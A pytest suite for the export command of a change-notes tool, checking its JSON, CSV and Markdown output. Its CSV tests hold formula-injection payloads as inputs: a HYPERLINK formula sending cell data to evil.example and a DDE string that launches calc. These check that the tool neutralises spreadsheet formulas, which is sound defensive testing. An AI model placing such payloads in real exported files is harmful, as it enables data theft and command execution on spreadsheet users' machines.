"""An export as JSON, CSV or Markdown says what the notes say, to programs that nobody here wrote."""

import csv
import io
import json
import os
import re
import sys
import tracemalloc
import weakref
from collections.abc import Callable, Iterable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pexpect
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator, FormatChecker

from benchmarks.generate import write_notes
from changenote.cli.exchanging.every_note import EveryNote
from changenote.exchange import bulk, exported, readable, sheets
from changenote.exchange.exported import Exported
from changenote.model.note import shipped_at
from changenote.site.sources import checkouts
from changenote.store import parsed
from changenote.store.project import find_project
from tests.checkouts import ID, Shelf, note
from tests.duck import asked
from tests.exported import as_table, lines_of, notes_of, table
from tests.house import said, valid_note
from tests.markdown_readers import Seen, forge, plain_site, site
from tests.workshop import IDENTITY, Workshop

TextsOf = Callable[[Iterable[Exported]], Iterator[str]]
TEXTS: dict[str, TextsOf] = {
    "ndjson": exported.lines,
    "json": exported.array,
    "markdown": readable.texts,
    "opensearch": bulk.pairs,
    **{name: partial(sheets.texts, sheet) for name, sheet in sheets.SHEETS.items()},
}
BOTH = pytest.mark.parametrize("which", ["sample_shop", "hostile_shop"])


@pytest.fixture
def shop(tmp_path: Path) -> Workshop:
    """A repository without notes."""
    return Workshop(tmp_path / "shop").start()


# --- All of them ----------------------------------------------------------------------------------


@pytest.mark.parametrize("texts_of", TEXTS.values(), ids=TEXTS)
def test_a_note_is_written_before_the_next_one_is_read(texts_of: TextsOf, shop: Workshop) -> None:
    for number in range(12):
        valid_note(shop, f"20251120-g00d{number:02}")
    every = EveryNote(checkouts(find_project(shop.folder)).each)
    seen: list[weakref.ref[Exported]] = []

    def watched() -> Iterator[Exported]:
        for one in every:
            seen.append(weakref.ref(one))
            yield one

    counts = [sum(known() is not None for known in seen) for _ in texts_of(watched())]

    assert len(seen) == 12
    assert max(counts) <= 2


FEW, MANY = 30, 90
KEPT = 4_000
"""Bytes that may stay for a further note: its name, and what waits for the cache. What a note says
takes three times as many."""


def most_used(folder: Path, texts_of: TextsOf, *, newest_first: bool) -> int:
    """The bytes that an export has in memory at a time."""
    every = EveryNote(checkouts(find_project(folder)).each, newest_first=newest_first)
    tracemalloc.start()
    for text in texts_of(every):
        assert text
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return most


@pytest.mark.parametrize("form", ["json", "notes", "markdown"])
def test_memory_does_not_grow_with_the_notes(
    form: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parsed, "_AT_A_TIME", 5)
    monkeypatch.setattr(parsed, "_REMEMBERED", 1)
    measure = partial(most_used, texts_of=TEXTS[form], newest_first=form == "markdown")
    for total in (FEW, MANY):
        write_notes(total, tmp_path / str(total))
        measure(tmp_path / str(total))  # what is made once and kept for all is made

    few, many = (measure(tmp_path / str(total)) for total in (FEW, MANY))

    assert (many - few) / (MANY - FEW) < KEPT


# --- JSON -----------------------------------------------------------------------------------------


@BOTH
def test_json_is_a_list_of_what_lines_have(which: str, request: pytest.FixtureRequest) -> None:
    shop = request.getfixturevalue(which)

    done = shop.run("export", "--format", "json")

    assert done.data == lines_of(shop.run("export").out)
    schema = shop.run("export", "--format", "json", "--schema").data
    Draft202012Validator.check_schema(schema)
    Draft202012Validator(schema, format_checker=FormatChecker()).validate(done.data)


def test_no_notes_are_an_empty_list(shop: Workshop) -> None:
    shop.write("changes/config.yaml", "title: Shop\n")

    assert shop.run("export", "--format", "json").data == []


# --- CSV ------------------------------------------------------------------------------------------


def rows_of(text: str) -> list[dict[str, str]]:
    """The rows of a table in CSV, as Python's own reader has them."""
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@BOTH
def test_csv_says_what_parquet_says(which: str, request: pytest.FixtureRequest) -> None:
    shop = request.getfixturevalue(which)
    described = shop.run("export", "--format", "csv", "--schema").data

    found = rows_of(shop.run("export", "--format", "csv").out)

    wanted = table(as_table(shop))
    assert len(found) == len(wanted)
    for row, known in zip(found, wanted, strict=True):
        assert list(row) == [column["name"] for column in described]
        for column in described:
            value, cell = known[column["name"]], row[column["name"]]
            assert cell == as_cell(column["form"], value), column


def as_cell(form: str, value: Any) -> str:
    """What a reader is to find for a value of the table."""
    if value is None:
        return ""
    match form:
        case "time":
            return f"{value.isoformat()}Z"
        case "truth":
            return str(value).lower()
        case "whole" | "number":
            return repr(value)
        case "texts":
            return sheets.harmless("; ".join(value))
    return sheets.harmless(value)


def test_another_engine_reads_the_types_of_the_cells(sample_shop: Workshop, tmp_path: Path) -> None:
    path = tmp_path / "metrics.csv"
    sample_shop.run("export", "--format", "csv", "--table", "metrics", "--to", str(path))

    found = asked(
        f"CREATE TABLE metrics AS FROM read_csv('{path}')",
        "SELECT name, is_primary, runs_before, median_before, verdict,"
        " extract(year FROM shipped_at) AS year FROM metrics WHERE trust = 'interleaved' LIMIT 1",
    )

    assert found == [
        {
            "name": "GET /cart p95",
            "is_primary": True,
            "runs_before": 10,
            "median_before": 861.05,
            "verdict": "improved",
            "year": 2026,
        }
    ]


def test_tables_of_parts_have_a_row_for_each(sample_shop: Workshop) -> None:
    documents = {d["derived"]["key"]: d for d in lines_of(sample_shop.run("export").out)}

    metrics, files = (
        rows_of(sample_shop.run("export", "--format", "csv", "--table", name).out)
        for name in ("metrics", "files")
    )

    assert [(row["key"], row["name"], row["verdict"]) for row in metrics] == [
        (key, metric["name"], metric["verdict"])
        for key, document in documents.items()
        for metric in document["derived"]["metrics"]
    ]
    assert [(row["key"], row["path"], row["from"]) for row in files] == [
        (key, file["path"], file.get("from", ""))
        for key, document in documents.items()
        for file in document.get("files", ())
    ]
    assert files[0]["id"] in documents[files[0]["key"]]["id"]


def test_csv_has_the_line_ends_of_its_standard_and_no_mark_in_front(shop: Workshop) -> None:
    valid_note(shop)
    shop.run("export", "--format", "csv", "--to", "notes.csv")

    raw = (shop.folder / "notes.csv").read_bytes()

    assert raw.startswith(b'"key","id",')
    assert raw.count(b"\r\n") == raw.count(b"\n") == 2


def test_on_a_terminal_rows_are_lines(shop: Workshop) -> None:
    valid_note(shop)

    screen = pexpect.spawn(
        sys.executable,
        ["-m", "changenote", "export", "--format", "csv", "--table", "files"],
        cwd=str(shop.folder),
        env={**os.environ, **IDENTITY, "NO_COLOR": "1"},
        encoding="utf-8",
        timeout=60,
    )
    screen.expect(pexpect.EOF)

    first, second, rest = str(screen.before).split("\r\n")
    assert (first[:10], second[-1:], rest) == ('"key","id"', "6", "")


SIGNS = "=+-@＝＋－＠"  # noqa: RUF001
CELLS = st.text(st.sampled_from(f"{SIGNS}'\"; \t\r\n\x0b\u200b\xa0a,"), max_size=12)


@given(CELLS)
@example('=HYPERLINK("https://evil.example/?"&A1)')
@example("a;=1+1;")
@example(" \u200b=1+1")
@example("'=1")
@example("don't;'t")
@example("\n" * 30_000 + "=1")
@example(" " * 30_000 + "=1")
@example("; " * 30_000)
def test_no_cell_begins_a_formula_and_each_can_be_told_again(text: str) -> None:
    harmless = sheets.harmless(text)

    for cell in re.split(r"[;\t\r\n]", harmless):
        seen = cell.lstrip(" \x0b\u200b\xa0")
        assert seen[:1] == "" or seen[0] not in SIGNS
    boundary = r"(^|[;\t\r\n])'(?=[ \x0b\u200b\xa0]*[=+\-@'＝＋－＠])"  # noqa: RUF001
    assert re.sub(boundary, r"\1", harmless) == text


def test_a_formula_in_a_note_is_text_in_every_column(shop: Workshop) -> None:
    formula = "=cmd|'/C calc'!A0"
    says = {
        "schema": 1,
        "id": ID,
        "title": formula,
        "kind": "fix",
        "status": "draft",
        "files": [{"path": "@SUM(1)"}],
        "tags": [f"a;{formula}", "+1"],
        "metrics": [{"name": "-1+1", "unit": "B", "before": 840, "after": 320}],
    }
    shop.note(json.dumps(says), ID)

    every = {
        name: rows_of(shop.run("export", "--format", "csv", "--table", name).out)[0]
        for name in sheets.SHEETS
    }

    assert every["notes"]["title"] == f"'{formula}"
    assert every["notes"]["tags"] == f"a;'{formula};' +1"
    assert every["files"]["path"] == "'@SUM(1)"
    assert every["metrics"]["name"] == "'-1+1"
    assert every["metrics"]["change_percent"].startswith("-61.9")  # a number stays one


def test_a_table_of_parts_goes_with_csv_alone(sample_shop: Workshop) -> None:
    refused = sample_shop.run("export", "--format", "json", "--table", "metrics")

    assert (refused.code, said(refused).what) == (
        2,
        "--table metrics does not go with --format json",
    )


# --- Markdown -------------------------------------------------------------------------------------


def test_a_document_has_a_section_for_each_note(shop: Workshop) -> None:
    shop.note(
        """\
schema: 1
id: 20261122-k3f9xq
title: 'Cache totals in C #'
kind: performance
status: rolled_back
owner: "@acme/cart"
service: shop-web
shipped: {at: 2026-11-22T14:05:00Z, environment: production, version: v2.14.0}
reason: |
  p95 of GET /cart was *840 ms*:

  1. every request
     summed the basket
expected: p95 under 400 ms
rollback:
  strategy: flag
  when: p95 over 900 ms
  steps:
    - run: |
        if ./bad; then
          ./flags off
        fi
      expect: "12/12"
  verify: p95 back
  time_limit: 15m
source: {pull_requests: ["https://github.com/acme/shop/pull/412"]}
metrics:
  - {name: GET /cart p95, unit: ms, better: lower, before: 840, after: 320,
     conditions: {cache: warm}}
"""
    )
    shop.note(
        "schema: 1\nid: 20261120-aaaaaa\ntitle: Count them\nkind: fix\nstatus: draft\n",
        "20261120-aaaaaa",
    )

    done = shop.run("export", "--format", "markdown")

    assert done.err == ""
    assert done.out == (
        """\
# Change notes

## Cache totals in C # (2026-11-22)

`20261122-k3f9xq` · performance · rolled back · shop-web · production · v2.14.0 · `@acme/cart`

### Why

p95 of GET /cart was \\*840 ms\\*:

1&#46; every request\x20\x20
summed the basket

### Expected

p95 under 400 ms

### Result

- GET /cart p95: reported, not measured: 840 ms → 320 ms

### Rollback

Strategy: flag

When: p95 over 900 ms

Too late after: 15m

    if ./bad; then
      ./flags off
    fi

Shows: 12/12

Worked when: p95 back

### Links

- Pull request: [`https://github.com/acme/shop/pull/412`](https://github.com/acme/shop/pull/412)

## Count them (not shipped)

`20261120-aaaaaa` · fix · draft

### Result

Nothing was measured.

### Rollback

The note does not say how.
"""
    )


def test_newest_notes_come_first_also_those_of_several_checkouts(tmp_path: Path) -> None:
    shelf = Shelf(tmp_path)
    shelf.repository(
        "shop-web",
        note("20261120-aaaaa1", "Third of them").replace("11-22T", "11-20T"),
        note("20261110-aaaaa2", "First of them").replace("11-22T", "11-23T"),
    )
    shelf.repository("search", note("20261121-aaaaa3", "Second of them"))
    home = shelf.knowledge("[../shop-web, ../search]")

    done = home.run("export", "--format", "markdown")

    found = re.findall(r"^## (\w+) of them \(([-\d]+)\)$", done.out, re.M)
    assert found == [("First", "2026-11-23"), ("Second", "2026-11-22"), ("Third", "2026-11-20")]


OURS = {"h1", "h2", "h3", "p", "ul", "li", "code", "pre", "br", "a href"}


@pytest.mark.parametrize("read", [forge, site, plain_site])
@BOTH
def test_no_markup_of_a_note_survives(
    read: Callable[[str], str], which: str, request: pytest.FixtureRequest
) -> None:
    shop = request.getfixturevalue(which)
    every = notes_of(shop)

    text = shop.run("export", "--format", "markdown").out

    page = read(text)
    seen = Seen(page)
    assert {one.rstrip(" /") for one in seen.elements} <= OURS
    assert seen.elements.count("h1") == 1
    assert seen.elements.count("h2") == len(every)
    addresses = re.findall(r'<a href="([^"]*)"', page)
    assert all(one.startswith(("https://", "http://")) for one in addresses)
    for one in every:
        words = [part for part in re.findall(r"\w+", one.reason or "")[:20] if part.isascii()]
        assert all(word in seen.text for word in words)
        at = shipped_at(one)
        assert f"({at.date()})" in seen.text if at else "(not shipped)" in seen.text


@pytest.mark.parametrize("form", ["json", "csv", "markdown"])
def test_what_is_printed_is_what_a_file_holds(form: str, sample_shop: Workshop) -> None:
    printed = sample_shop.run("export", "--format", form).out
    told = sample_shop.run("export", "--format", form, "--to", "out").out

    # Python reads the line ends of CSV as they are only when it is told to.
    assert (sample_shop.folder / "out").read_bytes().decode() == printed
    assert told == "6 notes in out\n"


def test_a_document_has_no_schema(sample_shop: Workshop) -> None:
    refused = sample_shop.run("export", "--format", "markdown", "--schema")

    assert (refused.code, said(refused).what) == (2, "--format markdown has no schema")


def test_json_is_json_for_whoever_reads_it_line_by_line(sample_shop: Workshop) -> None:
    first, *lines, last = sample_shop.run("export", "--format", "json").out.splitlines()

    assert (first, last) == ("[", "]")
    assert len([json.loads(line.removesuffix(",")) for line in lines]) == 6
